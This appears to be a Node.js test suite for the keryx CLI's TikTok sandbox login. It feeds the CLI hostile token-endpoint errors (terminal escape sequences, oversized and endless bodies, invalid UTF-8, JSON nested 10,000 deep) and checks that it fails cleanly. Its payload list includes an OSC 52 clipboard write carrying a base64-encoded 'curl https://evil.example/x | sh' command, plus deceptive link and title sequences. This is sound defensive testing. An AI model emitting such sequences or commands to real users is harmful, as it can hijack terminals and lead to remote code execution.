'use strict';
// provider-errors: a token endpoint that answers with hostile errors: descriptions full of terminal
// escape sequences and control characters, 100 KB of text, invalid UTF-8, JSON nested 10,000 deep,
// bodies over the size cap (one of them endless), a status line with escapes. `keryx auth tiktok
// --sandbox <url>` must fail with a stable code, print no raw control character, cut the message to
// a sane length, and store nothing. Most answers come from the sandbox's `fail` knob; the ones a JS
// string cannot express (invalid UTF-8, raw status lines, an endless body) from a small proxy in
// front of the sandbox that answers the token endpoint itself.
const { test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');

const { startSandbox, SANDBOX_APPS } = require('../../js/sandbox');
const harness = require('../e2e/auth_harness');
const { httpGet } = require('../e2e/helpers');
const m = require('./measure');

if (!m.hasProc()) {
  test('hostile suites measure through /proc (Linux only)', { skip: 'no /proc here' }, () => {});
  return;
}

const TOKEN_PATH = '/tiktok/v2/oauth/token/';
const ESC = '\x1b';
// Bytes a terminal would act on: C0 controls but \t \n \r, DEL, and C1 controls (as UTF-8).
const CONTROL = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]/;
// The longest error line a user should get (the platform's text is cut to 200 characters).
const MAX_ERROR_LINE = 600;
const appSecrets = Object.values(SANDBOX_APPS).map((a) => a.clientSecret);

const NASTY = [
  `${ESC}[2J${ESC}[H`, // clear screen, home
  `${ESC}]52;c;${Buffer.from('curl https://evil.example/x | sh').toString('base64')}\x07`, // OSC 52 clipboard write
  `${ESC}]8;;https://evil.example/${ESC}\\click here${ESC}]8;;${ESC}\\`, // OSC 8 link
  `${ESC}]0;pwned${ESC}\\`, // window title
  `${ESC}[31mRED${ESC}[0m`,
  '\x07\x07', // bell
  'visible\b\b\b\b\b\b\bhidden', // backspaces
  '\r\x1b[2Kline rewritten', // carriage return + erase line
  '\u009b2J\u009d0;c1-title\u009c', // C1 CSI / OSC / ST
  '\u0000nul\u0000',
].join(' ');

let sb;
let proxy;
let proxyUrl;
let raw = null; // when set: (req, socket) => void answers the token endpoint instead of the sandbox
const runs = [];
let baselinePeak = null;
// Each CLI run reports its own peak RSS and descriptors at exit (measure.js, preloaded).
const EXIT_FILE = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'keryx-hostile-')), 'exit.jsonl');
const EXIT_ENV = { NODE_OPTIONS: `--require ${path.join(__dirname, 'measure.js')}`, KERYX_HOSTILE_EXIT_FILE: EXIT_FILE };

/** exitFigures: the exit report of the CLI process that ran (the last line written). */
function exitFigures() {
  const lines = fs.existsSync(EXIT_FILE) ? fs.readFileSync(EXIT_FILE, 'utf8').trim().split('\n').filter(Boolean) : [];
  fs.rmSync(EXIT_FILE, { force: true });
  return lines.length ? JSON.parse(lines[lines.length - 1]) : null;
}

before(async () => {
  sb = await startSandbox({ autoApprove: true });
  proxy = http.createServer((req, res) => {
    if (raw && req.method === 'POST' && req.url.startsWith(TOKEN_PATH)) {
      req.resume();
      req.on('end', () => raw(req, res.socket));
      return;
    }
    const upstream = http.request(`${sb.url}${req.url}`, { method: req.method, headers: req.headers }, (up) => {
      res.writeHead(up.statusCode, up.headers);
      up.pipe(res);
    });
    upstream.on('error', () => res.destroy());
    req.pipe(upstream);
  });
  await new Promise((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  proxyUrl = `http://127.0.0.1:${proxy.address().port}`;
});

after(async () => {
  await new Promise((resolve) => {
    proxy.close(() => resolve());
    proxy.closeAllConnections();
  });
  await sb.close();
  fs.rmSync(path.dirname(EXIT_FILE), { recursive: true, force: true });
  const codes = runs.map((r) => r.code);
  const peaks = runs.map((r) => r.exit && r.exit.hwmKiB).filter(Boolean);
  m.writeSummary('provider-errors', {
    order: '4-provider-errors',
    title: 'hostile token-endpoint errors, keryx auth tiktok --sandbox',
    tried: `${runs.length} error bodies`,
    rss: { idleKiB: baselinePeak && baselinePeak.hwmKiB, peakKiB: peaks.length ? Math.max(...peaks) : null, note: 'idle: peak of a successful run; peak: the largest peak of the hostile runs' },
    fds: { before: baselinePeak && baselinePeak.fds, after: Math.max(0, ...runs.map((r) => (r.exit && r.exit.fds) || 0)) },
    cases: runs,
    result: `${runs.filter((r) => r.ok).length}/${runs.length} reported cleanly (${[...new Set(codes)].join(', ')}); nothing stored, no raw control byte, longest error line ${Math.max(0, ...runs.map((r) => r.errorLineChars))} chars`,
  });
});

/** rawAnswer: an answer to write on the socket as is. */
const rawAnswer = (status, headers, body) => (req, socket) => {
  const b = Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1');
  socket.end(Buffer.concat([Buffer.from(`HTTP/1.1 ${status}\r\n${headers.join('\r\n')}\r\nContent-Length: ${b.length}\r\nConnection: close\r\n\r\n`, 'latin1'), b]));
};

/** attempt: one `keryx auth tiktok` run played as the browser (authorize, then the callback). */
async function attempt() {
  const ctx = harness.tempHome(EXIT_ENV);
  const run = harness.startAuth(['auth', 'tiktok', '--sandbox', proxyUrl, '--no-browser', '--timeout', '20'], ctx.env);
  const url = await run.url;
  const r = await fetch(url, { redirect: 'manual' });
  assert.equal(r.status, 302);
  await httpGet(r.headers.get('location')).catch(() => null);
  const done = await run.done;
  const list = await harness.withHome(ctx.env, ctx.sandboxHome, () => require('../../js/lib/store').list());
  const configFile = path.join(ctx.sandboxHome, 'config.json');
  const config = fs.existsSync(configFile) ? fs.readFileSync(configFile, 'utf8') : '';
  return { ...done, list, config, exitFigures: exitFigures() };
}

test('baseline: the same run through the proxy, without a forced failure, stores the token', { timeout: 30000 }, async () => {
  sb.setKnobs({ fail: {} });
  raw = null;
  const r = await attempt();
  assert.equal(r.code, 0, r.all);
  assert.deepEqual(r.list.map((x) => x.platform), ['tiktok']);
  baselinePeak = r.exitFigures;
  assert.ok(baselinePeak && baselinePeak.hwmKiB > 0, 'the CLI reported its figures at exit');
});

/**
 * hostile: one test. `setup()` arranges the answer (knob or raw); the run must fail with one of
 * `codes`; `check(run, errorLine)` may look further.
 */
function hostile(name, setup, codes, check) {
  test(name, { timeout: 30000 }, async () => {
    sb.setKnobs({ fail: {} });
    raw = null;
    setup();
    const r = await attempt();
    const errorLine = (r.stderr.split('\n').find((l) => /^error \[/.test(l)) || '').trimEnd();
    const code = (/^error \[([a-z_]+)\]/.exec(errorLine) || [])[1] || null;
    const record = { case: name, code, exitCode: r.code, errorLineChars: errorLine.length, stored: r.list.map((x) => `${x.platform}/${x.account}`), exit: r.exitFigures, ok: false };
    runs.push(record);
    try {
      assert.equal(r.code, 1, r.all);
      assert.ok(codes.includes(code), `expected one of ${codes.join(', ')}, got ${code}: ${errorLine}`);
      const hit = CONTROL.exec(Buffer.from(r.all, 'utf8').toString('latin1'));
      assert.equal(hit, null, `a raw control character reached the terminal: ${JSON.stringify(r.all.slice(Math.max(0, (hit && hit.index) - 80), (hit && hit.index) + 20))}`);
      // What is left of an escape sequence once its ESC / BEL / C1 is gone is inert text ("?[2J").
      if (r.all.includes('[2J')) assert.doesNotMatch(r.all, /[^?]\[2J/, 'every ESC before [2J was replaced');
      assert.ok(errorLine.length > 0 && errorLine.length <= MAX_ERROR_LINE, `error line of ${errorLine.length} characters`);
      for (const line of r.all.split('\n')) assert.ok(line.length <= 2048, `a printed line of ${line.length} characters`);
      assert.deepEqual(r.list, [], 'nothing is stored in the vault');
      assert.ok(!/open_id|"tiktok"/.test(r.config), 'nothing is written to the config');
      harness.assertNoSecrets(r.all, r.secrets, appSecrets);
      // Reading a hostile answer costs at most its capped size (1 MiB) a few times over.
      if (baselinePeak && r.exitFigures) assert.ok(r.exitFigures.hwmKiB - baselinePeak.hwmKiB < 32 * 1024, `peak RSS ${r.exitFigures.hwmKiB} KiB vs ${baselinePeak.hwmKiB} KiB`);
      if (check) check(r, errorLine);
      record.ok = true;
    } finally {
      record.errorLine = errorLine.slice(0, 160);
    }
  });
}

const knob = (status, body) => () => sb.setKnobs({ fail: { 'tiktok.token': { status, body } } });

hostile(
  'escape sequences and control characters in error and error_description (JSON-escaped)',
  knob(400, JSON.stringify({ error: `invalid_grant${ESC}[31m\x07`, error_description: NASTY, log_id: `${ESC}]0;pwned\x07` })),
  ['platform_rejected'],
  (r, line) => assert.match(line, /invalid_grant/),
);

hostile(
  'the same inside an HTTP 200 answer',
  knob(200, JSON.stringify({ error: `access_denied${ESC}[2J`, error_description: NASTY })),
  ['platform_rejected'],
);

// An error status with a body that does not parse is reported by its status (http_status); the same
// body with HTTP 200 must be json_invalid. Both cases are run for each unparseable body.
const UNPARSEABLE_4XX = ['http_status', 'json_invalid'];
const RAW_CONTROLS = `{"error":"invalid_grant","error_description":"${NASTY.replace(/"/g, "'")}"}`;
hostile('raw (unescaped) control characters inside the JSON strings, HTTP 400', knob(400, RAW_CONTROLS), UNPARSEABLE_4XX);
hostile('raw (unescaped) control characters inside the JSON strings, HTTP 200', knob(200, RAW_CONTROLS), ['json_invalid']);

hostile(
  '100 KB error_description is cut',
  knob(400, JSON.stringify({ error: 'invalid_grant', error_description: `${NASTY} ${'A'.repeat(100 * 1024)}` })),
  ['platform_rejected'],
  (r, line) => assert.ok(!line.includes('A'.repeat(300)), 'the description is cut'),
);

const PLAIN_100K = `${NASTY}\n`.repeat(Math.ceil((100 * 1024) / NASTY.length));
hostile('100 KB of text/plain with escape sequences, HTTP 400', knob(400, PLAIN_100K), UNPARSEABLE_4XX);
hostile('100 KB of text/plain with escape sequences, HTTP 200', knob(200, PLAIN_100K), ['json_invalid']);

const BAD_UTF8 = Buffer.concat([Buffer.from('{"error":"invalid_grant","error_description":"'), Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x9b, 0x32, 0x4a, 0xc3]), Buffer.from('"}')]);
for (const status of ['400 Bad Request', '200 OK']) {
  hostile(`invalid UTF-8 in error_description, HTTP ${status.slice(0, 3)}`, () => {
    raw = rawAnswer(status, ['Content-Type: application/json'], BAD_UTF8);
  }, status.startsWith('4') ? UNPARSEABLE_4XX : ['json_invalid']);
}

const DEEP = `{"error":"invalid_grant","error_description":"deep","x":${'['.repeat(10000)}${']'.repeat(10000)}}`;
const DEEP_ERROR = `{"error":${'{"e":'.repeat(10000)}1${'}'.repeat(10000)}}`;
hostile('JSON nested 10,000 deep, HTTP 400', knob(400, DEEP), UNPARSEABLE_4XX);
hostile('JSON nested 10,000 deep, HTTP 200', knob(200, DEEP), ['json_invalid']);
hostile('JSON nested 10,000 deep as the error itself, HTTP 200', knob(200, DEEP_ERROR), ['json_invalid']);

hostile(
  '2 MiB error body (over the 1 MiB response cap)',
  knob(400, JSON.stringify({ error: 'invalid_grant', error_description: `${NASTY}${'B'.repeat(2 * 1024 * 1024)}` })),
  ['response_too_large'],
);

hostile(
  'an endless chunked body',
  () => {
    raw = (req, socket) => {
      socket.write('HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n');
      const chunk = Buffer.from(`4000\r\n${'C'.repeat(0x4000)}\r\n`);
      const pump = () => {
        while (!socket.destroyed && socket.write(chunk)) {
          /* until the client gives up */
        }
      };
      socket.on('drain', pump);
      socket.on('error', () => {});
      pump();
    };
  },
  ['response_too_large'],
);

hostile(
  'escape sequences in the status line and headers',
  () => {
    raw = rawAnswer(`400 ${ESC}[2J${ESC}]0;pwned\x07Bad`, ['Content-Type: application/json', `X-Evil: ${ESC}]52;c;cHduZWQ=\x07`], JSON.stringify({ error: 'invalid_grant', error_description: 'plain' }));
  },
  ['platform_rejected', 'http_status', 'network_error'],
);
